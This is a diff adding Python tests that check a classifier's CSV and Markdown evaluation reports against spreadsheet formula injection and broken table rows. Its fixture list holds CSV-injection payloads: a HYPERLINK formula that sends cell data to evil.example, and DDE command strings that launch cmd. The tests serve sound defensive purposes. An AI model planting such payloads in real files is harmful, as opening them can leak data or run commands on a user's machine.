@@ -1,0 +1,60 @@
+"""Hostile text in a text classifier's evaluation artifacts: ``misclassified.csv`` opens in a spreadsheet as
+text (no formula runs: OWASP CSV injection), ``per_class.md`` keeps one table row per class (no HTML, no broken
+table)."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+
+from trainpipe.evaluation._text_report import csv_cell, write_text_report
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_formula_cells_are_quoted_and_numbers_and_plain_text_are_kept() -> None:
+    for text in FORMULAS:
+        assert csv_cell(text) == "'" + text
+    assert [csv_cell(t) for t in ("-1", "+2.5", "plain text", "1e-3")] == ["-1", "+2.5", "plain text", "1e-3"]
+
+
+def test_misclassified_texts_labels_and_column_names_cannot_run_as_formulas(tmp_path: Path) -> None:
+    classes = ["=cmd|' /C calc'!A0", "ok | <b>bold</b>\nsecond line"]
+    n = len(FORMULAS)
+    texts = pd.DataFrame({"=review": FORMULAS})
+    y = np.array([0, 1] * (n // 2))
+    pred = 1 - y  # every row wrong
+    proba = np.column_stack([1 - np.linspace(0.1, 0.9, n), np.linspace(0.1, 0.9, n)])
+    write_text_report(texts, classes, y, pred, proba, tmp_path)
+    with (tmp_path / "misclassified.csv").open(newline="") as handle:
+        rows = list(csv.reader(handle))
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
+                or (c.startswith("-") and not _number(c))]
+    assert rows[0][0] == "'=review" and {r[0] for r in rows[1:]} == {"'" + t for t in FORMULAS}
+    table = (tmp_path / "per_class.md").read_text().splitlines()
+    body = [line for line in table if line.startswith("| ") and "precision" not in line]
+    assert len(body) == len(classes) + 2  # the classes, the macro and weighted averages: one line each
+    assert "| ok \\| &lt;b&gt;bold&lt;/b&gt; second line |" in "\n".join(body)
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_a_carriage_return_in_a_text_does_not_split_its_row(tmp_path: Path) -> None:
+    texts = pd.DataFrame({"review": ["first\rsecond", "one\r\ntwo\nthree"]})
+    write_text_report(texts, ["a", "b"], np.array([0, 1]), np.array([1, 0]), np.array([[0.4, 0.6], [0.7, 0.3]]),
+                      tmp_path)
+    with (tmp_path / "misclassified.csv").open(newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert len(rows) == 3 and all(len(r) == 5 for r in rows)
+    assert sorted(r[0] for r in rows[1:]) == ["first\rsecond", "one\r\ntwo\nthree"]
